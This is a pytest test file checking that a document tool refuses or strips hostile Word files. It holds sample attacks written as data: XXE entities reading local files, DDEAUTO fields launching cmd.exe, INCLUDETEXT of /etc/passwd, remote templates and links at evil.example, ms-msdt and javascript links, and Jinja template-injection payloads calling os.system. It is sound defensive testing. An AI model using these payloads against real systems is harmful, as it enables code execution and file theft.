"""Company files that are broken, foreign or hostile: a message each, nothing run, nothing fetched, nothing written."""

from __future__ import annotations

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from company_files import company_file, parts_of, plan_document, printed, refused, repacked, said, saved, texts
from docx.opc.constants import RELATIONSHIP_TYPE

from planforge.writers import write

pytestmark = pytest.mark.slow

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(**entries: bytes) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name.replace("__", "/"), content)
    return made.getvalue()


FILES = {
    "an empty file": (b"", "not a Word file"),
    "text": ("公司模板".encode(), "not a Word file"),
    "the old format": (OLE + bytes(600), "old .doc format"),
    "an encrypted file": (OLE + "EncryptedPackage".encode("utf-16-le") + bytes(600), "is encrypted"),
    "a workbook": (zipped(**{"xl__workbook.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}), "an Excel workbook"),
    "slides": (zipped(**{"ppt__presentation.xml": b"<x/>", "[Content_Types].xml": b"<x/>"}), "a slide show"),
    "an OpenDocument text": (zipped(**{"content.xml": b"<x/>"}), "an OpenDocument file"),
    "any other zip": (zipped(readme=b"x"), "not a Word file"),
    "a zip bomb": (zipped(**{"word__document.xml": bytes(40 * 2**20)}), "unpacks to too much"),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_what_is_no_word_file_is_told_as_what_it_is(name: str, tmp_path: Path) -> None:
    content, message = FILES[name]
    path = tmp_path / "company.docx"
    path.write_bytes(content)
    (problem,) = refused(path)
    assert message in problem.message.en
    assert problem.hint
    assert problem.where
    assert problem.where.file == path.as_posix()


def test_a_missing_file_is_told(tmp_path: Path) -> None:
    assert said(tmp_path / "none.docx") == ["there is no such file"]


@pytest.mark.parametrize("kept", [0.3, 0.6, 0.95])
def test_a_truncated_file_is_told(kept: float, tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    content = path.read_bytes()
    path.write_bytes(content[: int(len(content) * kept)])
    assert said(path) == ["the file is truncated or damaged"]


def test_a_file_with_a_password_on_its_zip_is_told(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    content = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(mark)
        while start >= 0:
            content[start + offset] |= 1
            start = content.find(mark, start + 4)
    path.write_bytes(bytes(content))
    assert said(path) == ["the file has a password"]


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"])
def test_an_entity_that_would_read_a_file_is_refused_with_its_part(part: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("geheim")
    path = saved(company_file("封面"), tmp_path)
    declared = b'<!DOCTYPE x [<!ENTITY s SYSTEM "%s">]>' % secret.as_uri().encode()
    source = parts_of(path.read_bytes())[part]
    head, rest = source.split(b"?>", 1)
    repacked(path, {part: head + b"?>" + declared + rest})
    assert said(path) == [f"{part} declares entities, which is refused"]


def test_a_part_that_is_no_xml_is_named(tmp_path: Path) -> None:
    path = repacked(saved(company_file("封面"), tmp_path), {"word/styles.xml": b"<w:styles"})
    (message,) = said(path)
    assert message.startswith("word/styles.xml is damaged")


def test_macros_are_refused(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    types = parts_of(path.read_bytes())["[Content_Types].xml"]
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert plain in types
    macros = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    repacked(path, {"[Content_Types].xml": types.replace(plain, macros)})
    assert said(path) == ["the file holds macros (.docm, .dotm) and is refused"]


@pytest.mark.parametrize("sort", ["styles", "numbering"])
def test_two_parts_of_what_a_document_has_one_of_are_told_as_broken(sort: str, tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    links = parts_of(path.read_bytes())["word/_rels/document.xml.rels"]
    again = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE}/{sort}" Target="{sort}.xml"/>' for number in (998, 999)
    )
    repacked(
        path, {"word/_rels/document.xml.rels": links.replace(b"</Relationships>", f"{again}</Relationships>".encode())}
    )
    assert said(path) == ["its parts do not hang together"]


def test_a_word_template_is_as_good_as_a_document(tmp_path: Path) -> None:
    path = saved(company_file("{{ region.name }}", "{{p body }}"), tmp_path, "company.dotx")
    types = parts_of(path.read_bytes())["[Content_Types].xml"]
    repacked(path, {"[Content_Types].xml": types.replace(b".document.main+xml", b".template.main+xml")})
    assert texts(printed(path))[0] == "豫南区域"


def test_a_remote_template_and_linked_pictures_are_taken_out_and_web_links_stay(tmp_path: Path) -> None:
    word = company_file("封面", "{{p body }}")
    web = word.part.relate_to("https://example.org/", f"{OFFICE}/hyperlink", is_external=True)
    picture = word.part.relate_to("https://evil.example/pixel.png", f"{OFFICE}/image", is_external=True)
    path = saved(word, tmp_path)
    parts = parts_of(path.read_bytes())
    drawn = (
        '<w:r><w:drawing xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f'<a:blip xmlns:r="{OFFICE}" r:link="{picture}"/></w:drawing></w:r>'
        f'<w:hyperlink xmlns:r="{OFFICE}" r:id="{web}"><w:r><w:t>网址</w:t></w:r></w:hyperlink></w:p>'
    )
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    attached = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/>'.encode()
    settings = parts["word/settings.xml"]
    place = settings.index(b">", settings.index(b"<w:settings")) + 1
    repacked(
        path,
        {
            "word/document.xml": parts["word/document.xml"].replace(b"</w:p>", drawn.encode(), 1),
            "word/settings.xml": settings[:place] + attached + settings[place:],
            "word/_rels/settings.xml.rels": links.encode(),
        },
    )
    made = b"".join(parts_of(write(plan_document(), style=path, contents="linked")).values())
    assert b"evil.example" not in made
    assert b"attachedTemplate" not in made
    assert b"https://example.org/" in made


@pytest.mark.parametrize(
    "target",
    ["javascript:alert(1)", "ms-word:ofe|u|https://evil.example/x", "search-ms:query=x", "ms-msdt:/id x", "file:///x",
     r"\\server\share"],
)  # fmt: skip
def test_a_link_that_would_open_a_file_or_start_a_program_is_taken_out_and_its_words_stay(
    target: str, tmp_path: Path
) -> None:
    word = company_file("封面", "{{p body }}")
    place = word.part.relate_to(target, f"{OFFICE}/hyperlink", is_external=True)
    path = saved(word, tmp_path)
    link = f'<w:hyperlink xmlns:r="{OFFICE}" r:id="{place}"><w:r><w:t>看这里</w:t></w:r></w:hyperlink></w:p>'
    source = parts_of(path.read_bytes())["word/document.xml"]
    repacked(path, {"word/document.xml": source.replace(b"</w:p>", link.encode(), 1)})
    made = parts_of(write(plan_document(), style=path, contents="linked"))
    assert target.encode() not in made["word/_rels/document.xml.rels"]
    assert "看这里" in made["word/document.xml"].decode()


@pytest.mark.parametrize("drawn", ["imagedata", "fill", "stroke"])
def test_an_old_drawing_names_no_picture_elsewhere(drawn: str, tmp_path: Path) -> None:
    path = saved(company_file("封面", "{{p body }}"), tmp_path)
    shape = (
        '<w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f'<v:shape href="https://evil.example/b"><v:{drawn} src="https://evil.example/a" o:href="file://evil.example/c"'
        "/></v:shape></w:pict></w:r></w:p>"
    )
    source = parts_of(path.read_bytes())["word/document.xml"]
    repacked(path, {"word/document.xml": source.replace(b"</w:p>", shape.encode(), 1)})
    assert b"evil.example" not in b"".join(parts_of(write(plan_document(), style=path, contents="linked")).values())


@pytest.mark.parametrize(
    "pieces",
    [("INCLUDE", "PICTURE x"), ("DD", "EAUTO x"), ("LINK Excel.Sheet.12 x",), ("IMPORT x",), ("INCLUDE x",), ("RD x",),
     ("DATABASE x",), (" ", "includetext x")],
)  # fmt: skip
def test_a_field_that_is_spread_over_runs_or_paragraphs_is_seen(pieces: tuple[str, ...], tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    source = parts_of(path.read_bytes())["word/document.xml"]
    codes = "</w:p><w:p>".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    outer = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
    field = (
        f'{outer}<w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    repacked(path, {"word/document.xml": source.replace(b"</w:p>", field.encode(), 1)})
    assert said(path) == [f"a field {''.join(pieces).split()[0].upper()} would fetch or run something"]


@pytest.mark.parametrize("code", [r"DDEAUTO c:\\windows\\system32\\cmd.exe", "INCLUDETEXT &quot;/etc/passwd&quot;"])
def test_a_field_that_would_run_or_fetch_something_is_refused(code: str, tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    source = parts_of(path.read_bytes())["word/document.xml"]
    field = f'<w:fldSimple w:instr="{code}"/></w:p>'.encode()
    repacked(path, {"word/document.xml": source.replace(b"</w:p>", field, 1)})
    assert said(path) == [f"a field {code.split()[0]} would fetch or run something"]


HOSTILE = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ region.__init__.__globals__ }}",
    "{{ spec.model_copy() }}",
    "{{ spec.region.name.upper() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch hacked').read() }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum.__globals__['os'].system('touch hacked') }}",
    "{{ namespace.__init__ }}",
    "{{ 9 ** 9999999 }}",
    "{{ 'a' * 999999999 }}",
    "{% for i in range(999999999) %}{% endfor %}",
    "{{ region.name | attr('__class__') }}",
    "{% import 'os' as os %}",
    "{% set x = spec.__dict__ %}",
    "{{ table.names() }}",
    "{{ [1] | batch(99999999, 'x') | list | length }}",
    "{{" * 20_000,
    "{{ " + "(" * 400 + "1" + ")" * 400 + " }}",
    "{% for a in 'aaaaaaaa' %}{{p body }}{% endfor %}",
    "{{ region.name }}" * 3_000,
)


@pytest.mark.parametrize("typed", HOSTILE)
def test_nothing_that_a_template_says_is_run(typed: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (problem,) = refused(saved(company_file(typed), tmp_path))
    assert "body, paragraph 1" in problem.message.en
    assert [path.name for path in tmp_path.iterdir()] == ["company.docx"]


@pytest.mark.parametrize("part", ["word/theme/theme1.xml", "word/styles.xml", "word/header1.xml"])
def test_a_file_that_lacks_a_part_it_names_is_told(part: str, tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    parts = parts_of(path.read_bytes())
    del parts[part]
    path.write_bytes(zipped(**{name.replace("/", "__"): content for name, content in parts.items()}))
    assert said(path) == ["its parts do not hang together"]


def test_odd_numbers_in_a_file_are_taken_as_none(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    lists = parts_of(path.read_bytes())["word/numbering.xml"]
    repacked(path, {"word/numbering.xml": lists.replace(b'w:numId="1"', b'w:numId="x"', 1)})
    assert "现状" in texts(printed(path))


def test_a_part_of_which_nothing_says_what_it_is_is_told(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    types = parts_of(path.read_bytes())["[Content_Types].xml"]
    at = types.index(b"ContentType", types.index(b"/word/theme/theme1.xml"))
    repacked(path, {"[Content_Types].xml": types[:at] + types[at:].replace(b"ContentType", b"ContentTyqe", 1)})
    assert said(path) == ["its parts do not hang together"]


def test_names_of_parts_are_the_same_in_capitals_as_to_word(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    parts = parts_of(path.read_bytes())
    parts["docProps/Thumbnail.JPEG"] = parts.pop("docProps/thumbnail.jpeg")
    parts["word/Theme/theme1.xml"] = parts.pop("word/theme/theme1.xml")
    path.write_bytes(zipped(**{name.replace("/", "__"): content for name, content in parts.items()}))
    assert "现状" in texts(printed(path))


def test_the_main_part_may_have_another_name(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    parts = {name: content.replace(b"word/document.xml", b"word/document2.xml")
             for name, content in parts_of(path.read_bytes()).items()}  # fmt: skip
    for place in ("word/document.xml", "word/_rels/document.xml.rels"):
        parts[place.replace("document", "document2")] = parts.pop(place)
    path.write_bytes(zipped(**{name.replace("/", "__"): content for name, content in parts.items()}))
    assert "现状" in texts(printed(path))


def test_a_link_to_a_bookmark_that_is_not_called_external_stays_one(tmp_path: Path) -> None:
    path = saved(company_file("封面"), tmp_path)
    name = "word/_rels/document.xml.rels"
    link = f'<Relationship Id="rId77" Target="#here" Type="{RELATIONSHIP_TYPE.HYPERLINK}"/>'.encode()
    repacked(path, {name: parts_of(path.read_bytes())[name].replace(b"</Relationships>", link + b"</Relationships>")})
    assert "现状" in texts(printed(path))
